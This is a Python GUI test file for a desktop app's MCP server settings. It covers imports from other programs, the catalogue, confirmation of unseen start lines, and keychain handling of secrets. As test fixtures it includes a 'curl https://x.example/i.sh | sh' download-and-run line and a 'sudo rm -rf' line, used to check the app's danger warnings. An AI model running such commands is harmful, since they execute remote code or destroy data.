"""How servers come in and what they wait for, with real clicks: imports, the catalogue, unseen lines, secrets, Node."""

import json
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtTest import QTest
from PySide6.QtWidgets import (
    QAbstractButton,
    QApplication,
    QCheckBox,
    QDialog,
    QFileDialog,
    QLabel,
    QLineEdit,
    QPlainTextEdit,
    QProgressBar,
    QPushButton,
    QToolButton,
    QWidget,
)

from desktop.core.secrets import KeychainState
from desktop.core.settings import Settings, SettingsStore
from desktop.mcp_client.server_book import ConfiguredServers
from desktop.tools.entities import ServerState, ServerStatus, ToolDescriptor
from desktop.tools.programs import FetchState, FetchStatus
from desktop.tools.server_remarks import Remark
from desktop.tools.trust import ToolRule
from desktop.ui.dialogs.plain_box import PlainBox
from desktop.ui.endpoints.choice_box import ChoiceBox
from desktop.ui.settings.server_row import ServerRow
from desktop.ui.settings.window import SettingsWindow
from tests.support.agreed_servers import agreed
from tests.support.dialog_world import click
from tests.support.in_memory_secrets import InMemorySecrets
from tests.support.programs_on_paper import OFFER, ProgramsOnPaper
from tests.support.settings_world import open_settings
from tests.support.transcript_world import child as find
from tests.support.window_world import WindowWorld, window_world

Until = Callable[..., Coroutine[Any, Any, None]]
TOKEN = "ghp_0123456789abcdefSECRET0123456789"


def opened(world: WindowWorld) -> SettingsWindow:
    world.presenter.open_settings("servers")
    return open_settings(world)


def dialog(name: str) -> QDialog | None:
    found = [w for w in QApplication.topLevelWidgets() if isinstance(w, QDialog) and w.objectName() == name]
    return next((d for d in found if d.isVisible()), None)


def shown(name: str) -> QDialog:
    found = dialog(name)
    assert found is not None, f"no {name} is open"
    return found


def state_of(window: SettingsWindow, key: str) -> str:
    row = find(window, ServerRow, f"server-{key}")
    return "\n".join(label.text().replace("\u200b", "") for label in row.findChildren(QLabel) if label.isVisible())


def stored(world: WindowWorld) -> dict[str, Any]:
    return dict(SettingsStore(world.data_dir / "settings.json").settings.mcp_servers)


def prepare(data_dir: Path, **servers: Any) -> None:
    SettingsStore(data_dir / "settings.json").update(agreed(Settings(welcomed=True, mcp_servers=servers)))


def written(data_dir: Path) -> str:
    return "\n".join(path.read_text("utf-8", "replace") for path in data_dir.rglob("*") if path.is_file())


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Path:
    """The home folder of somebody who has other programs."""
    folder = Path.home()
    claude = folder / ".config/Claude/claude_desktop_config.json"
    claude.parent.mkdir(parents=True, exist_ok=True)
    servers = {
        "files": {"command": "npx", "args": ["-y", "files", "/"], "env": {"GITHUB_TOKEN": TOKEN, "REGION": "eu"}},
        "danger": {"command": "sudo", "args": ["rm", "-rf", "a\u202eb"]},
    }
    claude.write_text(json.dumps({"mcpServers": servers}))
    cursor = folder / ".cursor/mcp.json"
    cursor.parent.mkdir()
    cursor.write_text("{broken")
    monkeypatch.setattr("desktop.mcp_client.foreign_settings.sys.platform", "linux")
    return folder


async def test_servers_of_other_programs_are_chosen_from_a_list(
    qapp: QApplication, qloop: object, tmp_path: Path, home: Path, until: Until
) -> None:
    prepare(tmp_path / "data", files={"command": "mine"})
    async with window_world(qapp, tmp_path / "data") as world:
        window = opened(world)
        click(find(window, QPushButton, "importServersButton"))
        await until(lambda: dialog("importServers"))
        listed = shown("importServers")
        lines = [box.toPlainText() for box in listed.findChildren(PlainBox)]
        assert lines == ["npx -y files /", "sudo rm -rf 'a<U+202E>b'"]
        texts = "\n".join(label.text().replace("\u200b", "") for label in listed.findChildren(QLabel))
        assert "Claude Desktop" in texts
        assert "GITHUB_TOKEN" in texts
        assert "rights of the administrator" in texts
        assert "Its file is damaged" in texts
        assert TOKEN not in texts
        assert stored(world) == {"files": {"command": "mine"}}
        find(listed, QCheckBox, "import-0").click()
        assert find(listed, QPushButton, "importAdd").text() == "Add 1 server"
        click(find(listed, QPushButton, "importAdd"))
        await until(lambda: "files 2" in stored(world))
        entry = stored(world)["files 2"]
        assert entry["disabled"] is True
        assert entry["env"] == {"GITHUB_TOKEN": "${input:GITHUB_TOKEN}", "REGION": "eu"}
        kept = entry["inputs"]["GITHUB_TOKEN"]["kept"]
        await until(lambda: f"mcp:{kept}" in world.secrets._secrets)  # type: ignore[attr-defined]
        assert TOKEN not in written(tmp_path / "data")
        assert "Off" in state_of(window, "files 2")
        assert dialog("confirmDialog") is None
        click(find(window, QPushButton, "toastAction"))
        assert list(stored(world)) == ["files"]
        await until(lambda: f"mcp:{kept}" not in world.secrets._secrets)  # type: ignore[attr-defined]
        assert world.settings.settings.server_secrets == ()


async def test_the_first_of_several_new_servers_is_brought_into_view(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    prepare(tmp_path, **{f"old{number}": {"command": "mine", "disabled": True} for number in range(20)})
    async with window_world(qapp, tmp_path) as world:
        window = opened(world)
        click(find(window, QPushButton, "pasteServers"))
        await until(lambda: dialog("serverForm"))
        form = shown("serverForm")
        find(form, QPlainTextEdit, "serverJson").setPlainText(
            '{"mcpServers": {"a": {"command": "x"}, "b": {"command": "y"}}}'
        )
        click(find(form, QPushButton, "serverSave"))
        await until(lambda: "b" in stored(world))
        row = find(window, ServerRow, "server-a")
        page = window.page("servers")
        await until(lambda: page.viewport().rect().contains(row.mapTo(page.viewport(), row.rect().center())))


async def test_a_server_of_the_catalogue_takes_two_clicks(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    async with window_world(qapp, tmp_path, programs=ProgramsOnPaper("npx", "node")) as world:
        window = opened(world)
        await until(lambda: "npx: not found" in find(window, QLabel, "programList").text())
        click(find(window, QPushButton, "catalogueButton"))
        texts = "\n".join(label.text() for label in shown("serverCatalogue").findChildren(QLabel))
        assert "not on this computer yet" in texts
        click(find(shown("serverCatalogue"), QPushButton, "catalogue-time"))
        await until(lambda: dialog("confirmDialog"))
        assert stored(world) == {}
        line = find(shown("confirmDialog"), PlainBox, "startLine").toPlainText()
        assert line == "uvx mcp-server-time@2026.10.19"
        click(find(shown("confirmDialog"), QPushButton, "confirm_yes"))
        await until(lambda: "time" in stored(world))
        entry = stored(world)["time"]
        assert entry == {"command": "uvx", "args": ["mcp-server-time@2026.10.19"]}
        assert not find(window, QPushButton, "help-time").isVisible()


async def test_the_catalogue_asks_for_a_folder_and_for_a_key(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    async with window_world(qapp, tmp_path) as world:
        window = opened(world)
        click(find(window, QPushButton, "catalogueButton"))
        click(find(shown("serverCatalogue"), QPushButton, "catalogue-filesystem"))
        chooser = shown("serverCatalogue").findChild(QFileDialog, "catalogueFolder")
        assert chooser is not None
        chooser.fileSelected.emit(str(tmp_path))
        chooser.close()
        await until(lambda: dialog("confirmDialog"))
        assert find(shown("confirmDialog"), PlainBox, "startLine").toPlainText().endswith(str(tmp_path))
        click(find(shown("confirmDialog"), QPushButton, "confirm_no"))
        await until(lambda: dialog("confirmDialog") is None)
        assert stored(world) == {}
        click(find(window, QPushButton, "catalogueButton"))
        click(find(shown("serverCatalogue"), QPushButton, "catalogue-github"))
        await until(lambda: dialog("serverForm"))
        form = shown("serverForm")
        field = find(form, QLineEdit, "input-GITHUB_TOKEN")
        assert field.echoMode() is QLineEdit.EchoMode.Password
        QTest.keyClicks(field, TOKEN)
        click(find(form, QPushButton, "serverSave"))
        await until(lambda: dialog("confirmDialog"))
        click(find(shown("confirmDialog"), QPushButton, "confirm_yes"))
        await until(lambda: "github" in stored(world))
        kept = stored(world)["github"]["inputs"]["GITHUB_TOKEN"]["kept"]
        assert await world.secrets.get(f"mcp:{kept}") == TOKEN
        assert TOKEN not in written(tmp_path)


async def test_a_line_that_came_by_hand_waits_until_it_was_looked_at(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    hand = {"command": "bash", "args": ["-c", "curl https://x.example/i.sh | sh"]}
    SettingsStore(tmp_path / "settings.json").update(Settings(welcomed=True, mcp_servers={"hand": hand}))
    async with window_world(qapp, tmp_path) as world:
        window = opened(world)
        assert "Not started yet" in state_of(window, "hand")
        click(find(window, QPushButton, "help-hand"))
        await until(lambda: dialog("confirmDialog"))
        question = shown("confirmDialog")
        assert question.findChild(QWidget, "startFinding-downloads_and_runs") is not None
        assert find(question, PlainBox, "startLine").toPlainText() == "bash -c 'curl https://x.example/i.sh | sh'"
        assert find(question, QPushButton, "confirm_yes").property("role") == "danger"
        click(find(question, QPushButton, "confirm_yes"))
        await until(lambda: "Not started yet" not in state_of(window, "hand"))
        # Another line, another look.
        servers = {"hand": {**hand, "env": {"NODE_OPTIONS": "x"}}}
        world.settings.update(
            Settings(welcomed=True, mcp_servers=servers, confirmed_servers=world.settings.settings.confirmed_servers)
        )
        assert "Not started yet" in state_of(window, "hand")


async def test_a_missing_secret_is_entered_and_forgotten_with_its_server(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    entry = {
        "command": "x",
        "env": {"KEY": "${input:key}"},
        "inputs": {"key": {"password": True, "description": "From your account"}},
    }
    prepare(tmp_path, web=entry)
    secrets = InMemorySecrets()
    async with window_world(qapp, tmp_path, secrets=secrets) as world:
        window = opened(world)
        assert "Needs a secret: key" in state_of(window, "web")
        click(find(window, QPushButton, "help-web"))
        await until(lambda: dialog("serverForm"))
        form = shown("serverForm")
        secrets.set_status(KeychainState.LOCKED)
        assert "is locked" in find(form, QLabel, "serverKeychain").text()
        assert find(form, QPushButton, "serverKeychainAgain").isVisible()
        QTest.keyClicks(find(form, QLineEdit, "input-key"), TOKEN)
        click(find(form, QPushButton, "serverSave"))
        await until(lambda: dialog("serverForm") is None)  # the same line: nothing to be asked
        kept = stored(world)["web"]["inputs"]["key"]["kept"]
        assert await secrets.get(f"mcp:{kept}") == TOKEN
        world.gateway.set_status(
            ServerStatus(server_id="web", state=ServerState.NEEDS_SECRET, remarks=(Remark("secret_locked", "key"),))
        )
        assert "keychain" in state_of(window, "web")
        click(find(window, QPushButton, "help-web"))  # entered once, but not to be had: its field, never the name's
        await until(lambda: dialog("serverForm"))
        await until(lambda: shown("serverForm").focusWidget() is find(shown("serverForm"), QLineEdit, "input-key"))
        click(find(shown("serverForm"), QPushButton, "serverCancel"))
        await until(lambda: dialog("serverForm") is None)
        click(find(window, QPushButton, "restart-web"))
        assert world.gateway.restarted == ["web"]
        # Changed: the old one goes. Removed: it can come back with Undo, until nobody can undo it any more.
        click(find(window, QPushButton, "help-web"))
        await until(lambda: dialog("serverForm"))
        QTest.keyClicks(find(shown("serverForm"), QLineEdit, "input-key"), "another")
        click(find(shown("serverForm"), QPushButton, "serverSave"))
        await until(lambda: f"mcp:{kept}" not in secrets._secrets)
        assert list(secrets._secrets.values()) == ["another"]
        click(find(window, QToolButton, "fold-web"))
        click(find(window, QPushButton, "remove-web"))
        await until(lambda: window.findChild(ServerRow, "server-web") is None)
        assert list(secrets._secrets.values()) == ["another"]
        click(find(window, QPushButton, "toastAction"))
        assert "another" in secrets._secrets.values()
        await until(lambda: window.findChild(ServerRow, "server-web") is not None)
        click(find(window, QToolButton, "fold-web"))
        click(find(window, QPushButton, "remove-web"))
        click(find(window, QToolButton, "toastClose"))
        await until(lambda: secrets._secrets == {})
        assert TOKEN not in written(tmp_path)


async def test_what_is_decided_about_a_server_and_its_tools(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    prepare(tmp_path, files={"command": "x"})
    async with window_world(qapp, tmp_path) as world:
        thread = await world.add_thread("hello", title="Trip to Lisbon")
        await world.presenter.open_thread(thread)
        world.gateway.listed["files"] = tuple(
            ToolDescriptor(
                server_id="files",
                name=f"tool{n}",
                alias=f"files__tool{n}",
                title="",
                description="d",
                input_schema={},
                definition_hash=str(n),
            )
            for n in range(50)
        )
        window = opened(world)
        world.gateway.set_status(ServerStatus(server_id="files", state=ServerState.READY))
        click(find(window, QToolButton, "fold-files"))
        book = ConfiguredServers(source="", environment={}, workspace=lambda _settings: tmp_path)

        def trust() -> Any:
            return book.trust(world.settings.settings, "files")

        def choose(name: str, key: str) -> None:
            box = find(window, ChoiceBox, name)
            box.show_key(key)
            box.activated.emit(box.currentIndex())

        click(find(window, QAbstractButton, "trusted-files"))
        choose("rule-files", "ask")
        choose("tool-files-tool1", "block")
        choose("tool-files-tool2", "allow")
        assert trust().is_trusted
        assert trust().rule is ToolRule.ASK
        assert dict(trust().tool_rules) == {"tool1": ToolRule.BLOCK, "tool2": ToolRule.ALLOW}
        await until(lambda: find(window, ChoiceBox, "chats-files").isEnabled())
        choose("chats-files", "one")
        assert book.chats(world.settings.settings, "files") == (thread,)
        assert "Trip to Lisbon" in find(window, ChoiceBox, "chats-files").currentText()
        assert window.findChild(ChoiceBox, "tool-files-tool40") is None
        click(find(window, QPushButton, "moreTools-files"))
        assert find(window, ChoiceBox, "tool-files-tool40").isVisible()
        choose("tool-files-tool1", "usual")
        choose("chats-files", "all")
        assert "chats" not in stored(world)["files"]
        # Another line: nobody trusts that one yet.
        changed = {**stored(world)["files"], "args": ["other"]}
        world.settings.update(Settings(welcomed=True, mcp_servers={"files": changed}))
        assert not trust().is_trusted
        assert not find(window, QAbstractButton, "trusted-files").isChecked()


async def test_node_is_fetched_on_a_click_and_servers_get_going(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    prepare(tmp_path, files={"command": "npx"})
    programs = ProgramsOnPaper("npx", "node")
    async with window_world(qapp, tmp_path, programs=programs) as world:
        window = opened(world)
        missing = ServerStatus(server_id="files", state=ServerState.FAILED, remarks=(Remark("runner_missing", "npx"),))
        world.gateway.set_status(missing)
        await until(lambda: find(window, QPushButton, "fetchNode").isVisible())
        row = window.page("servers")
        words = "\n".join(label.text().replace("\u200b", "") for label in row.findChildren(QLabel))
        assert all(word in words for word in ("61 MB", "206 MB", "pypi.org", OFFER.folder))
        assert programs.asked == []
        click(find(window, QPushButton, "fetchNode"))
        assert programs.asked == ["fetch"]
        programs.set_fetch(FetchStatus(state=FetchState.RUNNING, done_bytes=103_000_000, total_bytes=206_000_000))
        assert find(window, QProgressBar, "nodeProgress").value() == 50
        click(find(window, QPushButton, "cancelNode"))
        assert programs.asked == ["fetch", "cancel"]
        programs.set_fetch(FetchStatus(state=FetchState.NO_NETWORK, detail="dns error"))
        assert "cannot be reached" in "\n".join(label.text() for label in row.findChildren(QLabel))
        programs.set_fetch(FetchStatus(state=FetchState.DONE))
        await until(lambda: "npx: fetched by Threadwell" in find(window, QLabel, "programList").text())
        assert world.gateway.restarted == ["files"]
        click(find(window, QPushButton, "removeNode"))
        await until(lambda: "npx: not found" in find(window, QLabel, "programList").text())


async def test_pasted_json_takes_its_secrets_into_the_keychain(
    qapp: QApplication, qloop: object, tmp_path: Path, until: Until
) -> None:
    async with window_world(qapp, tmp_path) as world:
        window = opened(world)
        click(find(window, QPushButton, "pasteServers"))
        two = {"a": {"command": "x", "env": {"API_KEY": TOKEN}}, "b": {"url": f"https://x.example/mcp?token={TOKEN}"}}
        find(shown("serverForm"), QPlainTextEdit, "serverJson").insertPlainText(json.dumps({"mcpServers": two}))
        click(find(shown("serverForm"), QPushButton, "serverSave"))
        await until(lambda: set(stored(world)) == {"a", "b"})
        assert stored(world)["b"]["url"] == "https://x.example/mcp?token=${input:token}"
        assert len(world.settings.settings.server_secrets) == 2
        await until(lambda: len(world.secrets._secrets) == 2)  # type: ignore[attr-defined]
        assert TOKEN not in written(tmp_path)
